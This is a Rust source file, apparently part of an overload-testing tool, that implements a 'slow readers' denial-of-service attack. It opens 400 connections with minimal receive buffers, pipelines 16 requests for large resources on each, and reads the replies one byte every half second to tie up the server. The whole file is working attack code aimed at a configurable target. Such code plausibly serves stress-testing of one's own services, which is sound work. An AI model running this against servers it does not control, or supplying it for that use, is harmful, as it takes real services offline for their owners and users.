//! Large answers over HTTP/1.1 that are asked for many times and read byte by byte.

use std::time::Duration;

use async_trait::async_trait;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpSocket;
use tokio::time::sleep;

use crate::overload::attack::{Attack, Attackers, PAUSE};

const CONNECTIONS: usize = 400;
/// On each of them.
const REQUESTS: usize = 16;
/// What the system of the reader takes in advance, in bytes: as little as it allows.
const BUFFER: u32 = 1024;
/// Between two bytes.
const TURN: Duration = Duration::from_millis(500);

pub(crate) struct SlowReaders;

#[async_trait]
impl Attack for SlowReaders {
    async fn run(&self, by: Attackers) {
        let begun = async |by: Attackers, number| {
            let socket = TcpSocket::new_v4()?;
            socket.set_recv_buffer_size(BUFFER)?;
            let mut stream = by.open(socket, number).await?;
            let path = &by.target.big[number % by.target.big.len()];
            let request = format!("GET {path} HTTP/1.1\r\nHost: {}\r\n\r\n", by.target.authority);
            stream.write_all(request.repeat(REQUESTS).as_bytes()).await?;
            by.sent(REQUESTS.try_into().unwrap());
            while stream.read(&mut [0]).await? > 0 {
                sleep(TURN).await;
            }
            Ok(())
        };
        by.many(CONNECTIONS, PAUSE, begun).await;
    }
}
